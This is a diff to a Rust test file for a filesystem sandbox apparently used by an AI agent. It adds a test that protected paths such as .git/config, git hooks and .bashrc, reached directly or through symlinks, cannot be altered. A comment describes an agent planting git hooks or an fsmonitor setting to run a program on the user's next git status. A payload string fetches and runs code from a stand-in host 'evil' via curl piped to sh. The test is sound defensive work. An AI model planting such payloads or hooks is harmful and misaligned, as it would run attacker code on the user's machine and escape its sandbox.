@@ -118,6 +118,8 @@ fn kind<T>(result: &Result<T, JailError>) -> &'static str {
         Err(JailError::IsADirectory { .. }) => "IsADirectory",
         Err(JailError::TooLarge { .. }) => "TooLarge",
         Err(JailError::Io { .. }) => "Io",
+        Err(JailError::Protected { .. }) => "Protected",
+        Err(_) => "other",
     }
 }
 
@@ -692,4 +694,91 @@ proptest! {
         prop_assert!(!unexpected, "{:?}", result);
         prop_assert_eq!(snapshot_outside(fx.tmp.path()), fx.before.clone());
     }
+}
+
+/// Every file under `root`, with its bytes (directories as empty entries).
+fn tree(root: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
+    let mut out = BTreeMap::new();
+    let mut stack = vec![root.to_path_buf()];
+    while let Some(dir) = stack.pop() {
+        for entry in fs::read_dir(&dir).unwrap() {
+            let path = entry.unwrap().path();
+            let meta = fs::symlink_metadata(&path).unwrap();
+            let rel = path.strip_prefix(root).unwrap().to_path_buf();
+            if meta.is_dir() {
+                stack.push(path);
+                out.insert(rel, Vec::new());
+            } else if meta.is_symlink() {
+                out.insert(
+                    rel,
+                    fs::read_link(&path)
+                        .unwrap()
+                        .into_os_string()
+                        .into_encoded_bytes(),
+                );
+            } else {
+                out.insert(rel, fs::read(&path).unwrap());
+            }
+        }
+    }
+    out
+}
+
+#[test]
+fn protected_entries_cannot_be_written_moved_or_removed() {
+    // Attack: an agent plants a git hook, rewrites .git/config (core.fsmonitor
+    // runs a program on the user's next `git status`), or a shell rc file,
+    // directly or through symlinks it made inside the workspace.
+    let fx = Fixture::with(|tmp| {
+        let root = tmp.join("root");
+        fs::create_dir_all(root.join(".git/hooks")).unwrap();
+        fs::create_dir_all(root.join("vendor/lib/.git")).unwrap();
+        fs::write(root.join(".git/config"), b"[core]\n").unwrap();
+        fs::write(root.join("vendor/lib/.git/config"), b"[core]\n").unwrap();
+        fs::write(root.join(".bashrc"), b"# rc\n").unwrap();
+        fs::write(root.join("notes.txt"), b"notes\n").unwrap();
+        symlink(".git", root.join("gitlink")).unwrap();
+        symlink(".bashrc", root.join("rc-link")).unwrap();
+        symlink(".git/hooks/pre-commit", root.join("hook-link")).unwrap();
+    });
+    let before = tree(&fx.root);
+    let jail = &fx.jail;
+    let payload = b"[core]\n\tfsmonitor = curl evil | sh\n";
+    for path in [
+        ".git/config",
+        ".git/hooks/pre-commit",
+        ".git/commondir",
+        "vendor/lib/.git/config",
+        ".bashrc",
+        ".vscode/tasks.json",
+        "gitlink/config",
+        "gitlink/hooks/post-checkout",
+        "rc-link",
+        "hook-link",
+        "sub/.git",
+        ".git/../.git/config",
+    ] {
+        assert_kind(jail.write(p(path), payload), "Protected");
+        if !path.ends_with("-link") {
+            // create_new never follows a link at the name: that is AlreadyExists.
+            assert_kind(jail.create_new(p(path), payload), "Protected");
+        }
+    }
+    assert_kind(
+        jail.rename(p("notes.txt"), p(".git/hooks/pre-push")),
+        "Protected",
+    );
+    assert_kind(
+        jail.rename(p("notes.txt"), p("gitlink/hooks/pre-push")),
+        "Protected",
+    );
+    assert_kind(jail.rename(p(".git/config"), p("config.bak")), "Protected");
+    assert_kind(jail.remove(p(".git/config")), "Protected");
+    assert_kind(jail.remove(p(".bashrc")), "Protected");
+    assert_eq!(tree(&fx.root), before, "a protected entry changed");
+    // Ordinary files next to them stay writable.
+    jail.write(p("notes.txt"), b"more notes\n").unwrap();
+    jail.write(p(".git/COMMIT_EDITMSG"), b"msg\n").unwrap();
+    jail.write(p("docs/.bashrc"), b"# example\n").unwrap();
+    fx.assert_outside_untouched();
 }
